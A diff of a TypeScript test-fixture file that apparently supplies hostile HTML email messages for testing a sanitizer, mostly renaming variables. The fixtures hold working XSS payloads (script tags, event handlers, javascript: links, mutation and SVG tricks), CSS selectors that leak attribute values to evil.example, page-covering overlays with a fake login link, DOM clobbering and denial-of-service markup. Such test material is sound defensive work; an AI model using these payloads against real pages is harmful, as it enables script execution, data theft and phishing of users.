@@ -5,11 +5,11 @@ export interface HostileMessage {
 }
 
 /** Visible text of every hostile message. */
-export const visibleWord = 'Kính gửi anh chị'
+export const visibleText = 'Kính gửi anh chị'
 
 /** Script of these messages: it marks the page and sends a request. */
 const run = "top.owned=1;document.title='owned';fetch('https://evil.example/script')"
-const seen = `<p>${visibleWord}</p>`
+const visible = `<p>${visibleText}</p>`
 const nest = (times: number, open: string, inside: string, close: string) =>
   open.repeat(times) + inside + close.repeat(times)
 
@@ -17,30 +17,33 @@ const message = (name: string, html: string): HostileMessage => ({ name, html })
 
 /** Scripts: elements, event handlers and addresses. */
 export const scripts: readonly HostileMessage[] = [
-  message('script elements', `${seen}<script>${run}</script><SCRIPT/SRC=https://evil.example/x.js></SCRIPT>`),
+  message(
+    'script elements',
+    `${visible}<script>${run}</script><SCRIPT/SRC=https://evil.example/x.js></SCRIPT>`,
+  ),
   message(
     'handlers on everything',
-    `${seen}<img src=x onerror="${run}"><body onload="${run}"><details open ontoggle="${run}"><summary>a</summary></details><marquee onstart="${run}">b</marquee><p onpointerenter="${run}" onanimationstart="${run}" style="animation:x 1s" tabindex=1 autofocus onfocus="${run}">c</p>`,
+    `${visible}<img src=x onerror="${run}"><body onload="${run}"><details open ontoggle="${run}"><summary>a</summary></details><marquee onstart="${run}">b</marquee><p onpointerenter="${run}" onanimationstart="${run}" style="animation:x 1s" tabindex=1 autofocus onfocus="${run}">c</p>`,
   ),
   message(
     'links that run',
-    `${seen}<a href="javascript:${run}">javascript</a> <a href="jAvA&Tab;script:${run}">hidden</a> <a href="data:text/html,<script>${run}</script>">data</a> <a href="vbscript:x">vb</a><map name=m><area href="javascript:${run}"></map>`,
+    `${visible}<a href="javascript:${run}">javascript</a> <a href="jAvA&Tab;script:${run}">hidden</a> <a href="data:text/html,<script>${run}</script>">data</a> <a href="vbscript:x">vb</a><map name=m><area href="javascript:${run}"></map>`,
   ),
   message(
     'frames, objects and forms',
-    `${seen}<iframe src="https://evil.example/frame"></iframe><iframe srcdoc="<script>${run}</script>"></iframe><object data="https://evil.example/o"></object><embed src="https://evil.example/e"><applet code=x></applet><form action="https://evil.example/f"><input name=q autofocus onfocus="${run}"><button formaction="javascript:${run}">Nhận quà</button></form><frameset onload="${run}"><frame src="javascript:${run}"></frameset>`,
+    `${visible}<iframe src="https://evil.example/frame"></iframe><iframe srcdoc="<script>${run}</script>"></iframe><object data="https://evil.example/o"></object><embed src="https://evil.example/e"><applet code=x></applet><form action="https://evil.example/f"><input name=q autofocus onfocus="${run}"><button formaction="javascript:${run}">Nhận quà</button></form><frameset onload="${run}"><frame src="javascript:${run}"></frameset>`,
   ),
   message(
     'refresh, base and link',
-    `${seen}<meta http-equiv=refresh content="0;url=https://evil.example/r"><base href="https://evil.example/" target=_top><link rel=stylesheet href="https://evil.example/l.css"><link rel=preload as=image href="https://evil.example/p.png"><link rel=dns-prefetch href="//evil.example"><link rel=prerender href="https://evil.example/pr">`,
+    `${visible}<meta http-equiv=refresh content="0;url=https://evil.example/r"><base href="https://evil.example/" target=_top><link rel=stylesheet href="https://evil.example/l.css"><link rel=preload as=image href="https://evil.example/p.png"><link rel=dns-prefetch href="//evil.example"><link rel=prerender href="https://evil.example/pr">`,
   ),
   message(
     'SVG with animation, use and foreignObject',
-    `${seen}<svg width=900 height=900 onload="${run}"><script>${run}</script><a><animate attributeName=href values="javascript:${run}" /><text y=20>x</text></a><use href="https://evil.example/s.svg#a"/><use href="data:image/svg+xml;base64,PHN2ZyBpZD0iYSIvPg==#a"/><foreignObject width=900 height=900><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:${run}"></iframe></foreignObject><image href="https://evil.example/i.png"/><set attributeName=onmouseover to="${run}"/><style>@import "https://evil.example/svg.css";</style></svg><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>">`,
+    `${visible}<svg width=900 height=900 onload="${run}"><script>${run}</script><a><animate attributeName=href values="javascript:${run}" /><text y=20>x</text></a><use href="https://evil.example/s.svg#a"/><use href="data:image/svg+xml;base64,PHN2ZyBpZD0iYSIvPg==#a"/><foreignObject width=900 height=900><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:${run}"></iframe></foreignObject><image href="https://evil.example/i.png"/><set attributeName=onmouseover to="${run}"/><style>@import "https://evil.example/svg.css";</style></svg><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>">`,
   ),
   message(
     'templates, custom elements and portals',
-    `${seen}<template shadowrootmode=open><script>${run}</script><slot></slot></template><x-a is=x onclick="${run}"></x-a><portal src="https://evil.example/portal"></portal><video autoplay src="https://evil.example/v" onloadstart="${run}"><track src="https://evil.example/t"></video><audio src="https://evil.example/a" autoplay></audio><picture><source srcset="https://evil.example/s.png"><img src=x></picture>`,
+    `${visible}<template shadowrootmode=open><script>${run}</script><slot></slot></template><x-a is=x onclick="${run}"></x-a><portal src="https://evil.example/portal"></portal><video autoplay src="https://evil.example/v" onloadstart="${run}"><track src="https://evil.example/t"></video><audio src="https://evil.example/a" autoplay></audio><picture><source srcset="https://evil.example/s.png"><img src=x></picture>`,
   ),
 ]
 
@@ -59,7 +62,7 @@ export const mutations: readonly HostileMessage[] = [
   `<p id="</style><img src=x onerror=top.owned=1>"><style>a[title="</style><script>top.owned=1</script>"]{color:red}</style>`,
   `<img alt="\`><img src=x onerror=top.owned=1>\`" src="https://x.example/\`\`onerror=top.owned=1">`,
   `<!--[if gte mso 9]><script>top.owned=1</script><![endif]--><!--><img src=x onerror=top.owned=1>-->`,
-].map((html, index) => message(`mutation ${index + 1}`, `${seen}<div>${html}`))
+].map((html, index) => message(`mutation ${index + 1}`, `${visible}<div>${html}`))
 
 /** Styles that fetch, cover the page, read data or animate endlessly. */
 export const styles: readonly HostileMessage[] = [
@@ -67,48 +70,51 @@ export const styles: readonly HostileMessage[] = [
     'styles that fetch',
     `<style>@import "https://evil.example/1.css";@import url(https://evil.example/2.css);@font-face{font-family:x;src:url(https://evil.example/f.woff2)}@namespace svg "https://evil.example/ns";
     p{font-family:x;background:image-set("https://evil.example/3.png" 1x);background-image:-webkit-image-set(url(https://evil.example/4.png) 1x);cursor:url(https://evil.example/5.cur),auto;--u:url(https://evil.example/6.png);border-image:url(https://evil.example/7.png) 1;mask:url(https://evil.example/8.svg#m);filter:url(https://evil.example/9.svg#f);content:url(https://evil.example/10.png);shape-outside:url(https://evil.example/11.png);offset-path:url(https://evil.example/12.svg#p);list-style:url(javascript:1)}
-    div{background:var(--u)} p::before{content:url(https://evil.example/13.png)} a{src:url(https://evil.example/14.png)} b{background:cross-fade(url(https://evil.example/15.png),red 50%)}</style>${seen}<div style="background:var(--u)">x</div><div style="background-image:\\75\\72\\6c(https://evil.example/16.png)">y</div>`,
+    div{background:var(--u)} p::before{content:url(https://evil.example/13.png)} a{src:url(https://evil.example/14.png)} b{background:cross-fade(url(https://evil.example/15.png),red 50%)}</style>${visible}<div style="background:var(--u)">x</div><div style="background-image:\\75\\72\\6c(https://evil.example/16.png)">y</div>`,
   ),
   message(
     'styles that cover the page',
-    `<style>html,body{position:fixed!important;inset:0;z-index:2147483647;height:100000vh;width:500vw}.c{position:fixed;top:0;left:0;right:0;bottom:0;z-index:99999;background:red;width:100vw;height:100vh}.d{position:absolute;top:-2000px;left:-2000px;width:9000px;height:9000px}.e{position:sticky;top:0;margin:-9999px;transform:scale(100) translate(-500px,-500px)}</style>${seen}<div class=c><a href="https://evil.example/click">Đăng nhập</a></div><div class=d>d</div><div class=e>e</div><div style="position:fixed;inset:0;z-index:9;background:#000">x</div><dialog open style="position:fixed;inset:0">y</dialog><div popover>z</div>`,
+    `<style>html,body{position:fixed!important;inset:0;z-index:2147483647;height:100000vh;width:500vw}.c{position:fixed;top:0;left:0;right:0;bottom:0;z-index:99999;background:red;width:100vw;height:100vh}.d{position:absolute;top:-2000px;left:-2000px;width:9000px;height:9000px}.e{position:sticky;top:0;margin:-9999px;transform:scale(100) translate(-500px,-500px)}</style>${visible}<div class=c><a href="https://evil.example/click">Đăng nhập</a></div><div class=d>d</div><div class=e>e</div><div style="position:fixed;inset:0;z-index:9;background:#000">x</div><dialog open style="position:fixed;inset:0">y</dialog><div popover>z</div>`,
   ),
   message(
     'styles that read attributes and send them off',
-    `<style>a[href^="h"]{background:url(https://evil.example/leak?h)}input[value^="a"]{background:url(https://evil.example/leak?a)}:has(p){background:url(https://evil.example/leak?p)}:visited{background:url(https://evil.example/leak?v)}@media (min-width:1px){p{background:url(https://evil.example/leak?m)}}@supports (color:red){p{background:url(https://evil.example/leak?s)}}@container (width>1px){p{background:url(https://evil.example/leak?c)}}@layer x{p{background:url(https://evil.example/leak?l)}}@scope (p){:scope{background:url(https://evil.example/leak?o)}}</style>${seen}<a href="https://x.example">x</a>`,
+    `<style>a[href^="h"]{background:url(https://evil.example/leak?h)}input[value^="a"]{background:url(https://evil.example/leak?a)}:has(p){background:url(https://evil.example/leak?p)}:visited{background:url(https://evil.example/leak?v)}@media (min-width:1px){p{background:url(https://evil.example/leak?m)}}@supports (color:red){p{background:url(https://evil.example/leak?s)}}@container (width>1px){p{background:url(https://evil.example/leak?c)}}@layer x{p{background:url(https://evil.example/leak?l)}}@scope (p){:scope{background:url(https://evil.example/leak?o)}}</style>${visible}<a href="https://x.example">x</a>`,
   ),
   message(
     'styles that never rest',
-    `<style>@keyframes k{from{width:1px;height:1px;background:url(https://evil.example/k.png)}to{width:9000px;height:9000px}}p,div{animation:k .01s infinite alternate;transition:all .01s;will-change:all;backdrop-filter:blur(90px)}marquee{width:99999px}</style>${seen}<marquee scrollamount=9999 loop=-1>chạy</marquee><blink>nháy</blink><div>${'<div>x</div>'.repeat(300)}</div>`,
+    `<style>@keyframes k{from{width:1px;height:1px;background:url(https://evil.example/k.png)}to{width:9000px;height:9000px}}p,div{animation:k .01s infinite alternate;transition:all .01s;will-change:all;backdrop-filter:blur(90px)}marquee{width:99999px}</style>${visible}<marquee scrollamount=9999 loop=-1>chạy</marquee><blink>nháy</blink><div>${'<div>x</div>'.repeat(300)}</div>`,
   ),
   message(
     'styles that hide the letter',
-    `<style>body{display:none!important;height:0!important;overflow:hidden}html{visibility:hidden!important;opacity:0!important}</style><body style="display:none;visibility:hidden;height:0">${seen}`,
+    `<style>body{display:none!important;height:0!important;overflow:hidden}html{visibility:hidden!important;opacity:0!important}</style><body style="display:none;visibility:hidden;height:0">${visible}`,
   ),
   message(
     'styles that end their element',
-    `<style>p{color:red}</style/><img src=x onerror=top.owned=1></style><style>x{content:"\\3c/style\\3e\\3cimg src=x onerror=top.owned=1\\3e"}</style><style media="all{}</style><img src=x onerror=top.owned=1>">p{}</style>${seen}<p style="color:red;}</style><img src=x onerror=top.owned=1>">x</p>`,
+    `<style>p{color:red}</style/><img src=x onerror=top.owned=1></style><style>x{content:"\\3c/style\\3e\\3cimg src=x onerror=top.owned=1\\3e"}</style><style media="all{}</style><img src=x onerror=top.owned=1>">p{}</style>${visible}<p style="color:red;}</style><img src=x onerror=top.owned=1>">x</p>`,
   ),
   message(
     'names that stand in for the page',
-    `${seen}<form id=contentDocument><input name=body><input name=documentElement></form><img name=getElementById><img id=body><a id=location name=location href="https://evil.example/">x</a><div id=main class="bocau-quote">y</div><details class="bocau-quote" open><summary>z</summary></details>`,
+    `${visible}<form id=contentDocument><input name=body><input name=documentElement></form><img name=getElementById><img id=body><a id=location name=location href="https://evil.example/">x</a><div id=main class="bocau-quote">y</div><details class="bocau-quote" open><summary>z</summary></details>`,
   ),
 ]
 
 /** Excessive content. */
 export const masses: readonly HostileMessage[] = [
-  message('five megabytes of nested tables', seen + '<table><tr><td>'.repeat(340_000)),
-  message('five megabytes of rows', `${seen}<table>${'<tr><td>x</td></tr>'.repeat(260_000)}</table>`),
-  message('a hundred thousand open elements', seen + '<b><i><u><a href=//x>'.repeat(100_000)),
-  message('fifty thousand pictures', seen + '<img src="https://x.example/a.png" width=9999>'.repeat(50_000)),
+  message('five megabytes of nested tables', visible + '<table><tr><td>'.repeat(340_000)),
+  message('five megabytes of rows', `${visible}<table>${'<tr><td>x</td></tr>'.repeat(260_000)}</table>`),
+  message('a hundred thousand open elements', visible + '<b><i><u><a href=//x>'.repeat(100_000)),
+  message(
+    'fifty thousand pictures',
+    visible + '<img src="https://x.example/a.png" width=9999>'.repeat(50_000),
+  ),
   message(
     'a very wide and very high letter',
-    `${seen}<div style="width:20000px;height:20000px">x</div>`.repeat(20),
+    `${visible}<div style="width:20000px;height:20000px">x</div>`.repeat(20),
   ),
-  message('a word without end', `${seen}<p>${'a'.repeat(400_000)}</p>`),
-  message('quotations in quotations', nest(3000, '<blockquote type=cite>', seen, '</blockquote>')),
+  message('a word without end', `${visible}<p>${'a'.repeat(400_000)}</p>`),
+  message('quotations in quotations', nest(3000, '<blockquote type=cite>', visible, '</blockquote>')),
   message(
     'everything unclosed',
-    `${seen}<b <i "<a href='x <table><tr><td><style>p{<!-- <![CDATA[ <?php <p class="`,
+    `${visible}<b <i "<a href='x <table><tr><td><style>p{<!-- <![CDATA[ <?php <p class="`,
   ),
 ]
